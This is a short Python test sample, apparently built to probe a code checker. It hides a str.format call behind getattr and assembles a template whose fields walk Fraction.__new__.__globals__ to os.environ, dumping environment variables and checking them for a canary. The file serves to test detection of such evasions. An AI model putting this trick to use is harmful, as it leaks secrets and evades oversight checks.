"""Hostile: a template's format method kept in a variable (taken with getattr), then called.

Only a call written as template.format(...) was looked at; the template is built from
pieces and its fields read attributes.
"""

from fractions import Fraction


def f(x: int) -> int:
    u = "_" * 2
    template = "{0." + u + "new" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"
    render = getattr(template, "format")
    env = render(Fraction)
    if "DERIVATIVE_CANARY" in env:
        leaked = env.split("DERIVATIVE_CANARY", 1)[1][:80]
        print("DERIVATIVE-BREACH format_via_variable:", leaked, flush=True)
        raise ValueError(f"canary {leaked}")
    return x + 1
